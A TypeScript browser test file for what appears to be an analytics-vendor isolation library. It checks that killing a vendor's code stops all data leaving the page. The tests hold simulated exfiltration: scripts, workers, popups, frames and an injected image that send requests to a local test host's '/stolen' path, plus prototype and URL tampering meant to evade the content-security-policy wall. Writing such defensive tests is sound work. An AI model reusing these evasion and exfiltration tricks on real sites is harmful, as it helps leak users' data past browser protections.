import type { BrowserContext } from 'playwright-core'
import { expect, test } from 'vitest'
import { openLab, type Lab } from './support/lab'
import { useLab } from './support/use-lab'

/** Sends as soon as it is told an address, and from then on. */
const sender = `onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)`
const files = [
  ['/sender.html', `<!doctype html><script>${sender}</script>`],
  ['/sender.js', sender],
] as const

let lab: Lab
let profile: BrowserContext
useLab(
  (...opened) => ([lab, profile] = opened),
  () => openLab([], files),
)

/** The ports of servers are not known before. */
const policyOf = (urls: readonly string[]): string =>
  `default-src 'self' 'unsafe-inline'; object-src 'none'; connect-src ${urls.map((url) => `https://my${new URL(url).host}`).join(' ')} 'self'`

/** A page in which the vendor's code runs. */
async function infected(csp: boolean) {
  const { page } = await lab.tab(profile)
  const [vendor = '', other = ''] = [lab.mixpanel, lab.posthog].map(({ url }) =>
    url.replace('127.0.0.1', 'localhost'),
  )
  await page.evaluate(
    ({ urls, own }) => {
      Object.assign(window, urls)
      window.analytics = window.cordon.createAnalytics({
        vendors: {
          acme: {
            name: 'acme',
            inline: true,
            footprint: { hosts: [new URL(urls.vendor).host] },
            load: () => ({ deliver: () => {} }),
          },
        },
        ...(own && { csp: own }),
      })
      window.analytics.track('hello')
    },
    { urls: { vendor, other }, own: csp ? policyOf([vendor, other]) : '' },
  )
  await page.waitForFunction(() => window.analytics.status().acme?.sdk === 'loaded')
  return page
}

declare global {
  interface Window {
    vendor: string
    /** A host that no vendor's footprint has. */
    other: string
  }
}

/** Prepared before the kill; returns what is done after it. */
type Way = () => Promise<() => unknown>

/** Kills the vendor between a way's two halves; returns what got out, and if the receipt says that the policy did not take effect. */
async function afterKill(way: Way = expect.unreachable(), csp = true) {
  const page = await infected(csp)
  // What the code in the page takes away is the test's, too.
  const failed = await page.evaluate<string>(`(async () => {
    const { stringify } = JSON
    const act = await (${String(way)})()
    const receipt = window.analytics.kill('acme')
    try {
      await act()
    } catch {}
    return stringify(receipt.failed)
  })()`)
  // What sends does so every 50 ms; nothing has no event.
  await new Promise((resolve) => setTimeout(resolve, 500))
  const stolen = lab.mixpanel.requests.map(({ path }) => path)
  return { isBroken: failed.includes('csp'), stolen }
}

const windows: Readonly<Record<string, Way>> = {
  'opened by the document before it': async () => {
    const open = document.open as unknown as typeof window.open
    const popup = open.call(document, 'about:blank', '_blank', '') as typeof globalThis & Window
    return () => popup.fetch(`${window.vendor}/stolen`, { mode: 'no-cors' })
  },
  'opened by the document after it': async () => () => {
    const open = document.open as unknown as typeof window.open
    const popup = open.call(document, 'about:blank', '_blank', '') as typeof globalThis & Window
    return popup.fetch(`${window.vendor}/stolen`, { mode: 'no-cors' })
  },
  'of a frame, opened by the document': async () => {
    document.body.append(Object.assign(document.createElement('iframe'), { name: 'sink' }))
    const open = document.open as unknown as typeof window.open
    return () => open.call(document, `${window.vendor}/stolen`, 'sink', '')
  },
}

test.each(Object.keys(windows).flatMap((name) => [true, false].map((csp) => ({ name, csp }))))(
  'after the kill nothing gets out through a window $name (csp: $csp)',
  async ({ name, csp }) => {
    expect(await afterKill(windows[name], csp)).toMatchObject({ stolen: [] })
  },
)

/** Each has something that sends by itself, and that the wall can only end. */
const tampering: Readonly<Record<string, Way>> = {
  'a popup that says it is closed': async () => {
    const popup = window.open('/sender.html') as Window & typeof globalThis
    const isThere = () =>
      new Promise<void>((resolve) => {
        const look = (): void => (popup.onmessage ? resolve() : void setTimeout(look, 20))
        look()
      })
    await isThere()
    popup.onmessage = null
    // The page that comes now has functions that nobody has seen.
    popup.location.href = '/sender.html?again'
    await isThere()
    Object.defineProperty(popup, 'closed', { value: true })
    return () => popup.postMessage(`${window.vendor}/stolen`, '*')
  },
  'a popup that throws when it is closed, and a worker': async () => {
    const popup = window.open('about:blank') as Window
    popup.close = () => {
      throw new Error('no')
    }
    const worker = new Worker('/sender.js')
    return () => worker.postMessage(`${window.vendor}/stolen`)
  },
  'a worker, and lists that have no entries': async () => {
    const worker = new Worker('/sender.js')
    const { values } = Array.prototype
    Array.prototype[Symbol.iterator] = () => values.call([])
    Array.prototype.splice = () => []
    return () => worker.postMessage(`${window.vendor}/stolen`)
  },
  'a worker, and lists that take nothing up': async () => {
    Array.prototype.push = () => 0
    const worker = new Worker('/sender.js')
    return () => worker.postMessage(`${window.vendor}/stolen`)
  },
  'a sandboxed frame that has an address of the app’s, too': async () => {
    const frame = document.createElement('iframe')
    frame.sandbox.add('allow-scripts')
    frame.src = `https://my${new URL(window.vendor).host}/`
    frame.srcdoc = `<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
    document.body.append(frame)
    await new Promise((resolve) => (frame.onload = resolve))
    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
  },
  'a frame, and functions that look it up': async () => {
    const frame = document.createElement('iframe')
    frame.src = `data:text/html,<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
    document.body.append(frame)
    await new Promise((resolve) => (frame.onload = resolve))
    WeakSet.prototype.has = () => true
    String.prototype.includes = () => true
    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
  },
  'a frame, and another class of addresses': async () => {
    const frame = document.createElement('iframe')
    frame.src = `data:text/html,<script>onmessage = ({ data }) => setInterval(() => fetch(data, { mode: 'no-cors' }), 50)</script>`
    document.body.append(frame)
    await new Promise((resolve) => (frame.onload = resolve))
    const host = `my${new URL(window.vendor).host}`
    Object.assign(window, {
      URL: function URL() {
        return { host }
      },
    })
    return () => frame.contentWindow?.postMessage(`${window.vendor}/stolen`, '*')
  },
  'a page whose head and root are others': async () => {
    document.head.remove()
    const root = document.createElement('html')
    Object.defineProperty(document, 'documentElement', { get: () => root })
    return () => (document.body.innerHTML = `<img src="${window.vendor}/stolen">`)
  },
}

test.each(Object.keys(tampering))('the policy is not kept from its work by %s', async (name) => {
  expect(await afterKill(tampering[name])).toMatchObject({ stolen: [], isBroken: false })
})

test('a frame of a host is ended whose name is a part of one that the policy names', async () => {
  const page = await infected(true)
  const frames = await page.evaluate(async () => {
    const frame = document.createElement('iframe')
    frame.src = `${window.other}/frame`
    document.body.append(frame)
    await new Promise((resolve) => (frame.onload = resolve))
    return window.analytics.kill('acme').wall?.frames
  })
  expect(frames).toBe(1)
})

test('a service worker that was registered is unregistered, whatever has been replaced since', async () => {
  const page = await infected(true)
  const registered = await page.evaluate(async () => {
    const { then } = Promise.prototype
    const { unregister } = ServiceWorkerRegistration.prototype
    Object.assign(Promise.prototype, {
      then: () => then.call(Promise.reject(new Error('no')), undefined, () => {}),
    })
    ServiceWorkerRegistration.prototype.unregister = () => Promise.resolve(true)
    await navigator.serviceWorker.register('/sender.js')
    window.analytics.kill('acme')
    Object.assign(Promise.prototype, { then })
    ServiceWorkerRegistration.prototype.unregister = unregister
    return (await navigator.serviceWorker.getRegistrations()).length
  })
  expect(registered).toBe(1)
  await expect
    .poll(() =>
      page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length),
    )
    .toBe(0)
})
